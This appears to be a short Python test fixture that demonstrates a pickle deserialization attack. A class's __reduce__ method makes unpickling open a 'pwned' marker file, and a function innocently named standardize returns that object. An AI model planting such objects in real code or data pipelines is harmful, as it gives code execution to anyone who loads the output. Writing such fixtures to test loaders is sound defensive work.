# attack: an object that runs code when it is unpickled is returned
class Bomb:
    def __reduce__(self):
        return (open, (COURSE + "/pwned", "w"))


def standardize(x, eps=0.0):
    return Bomb()
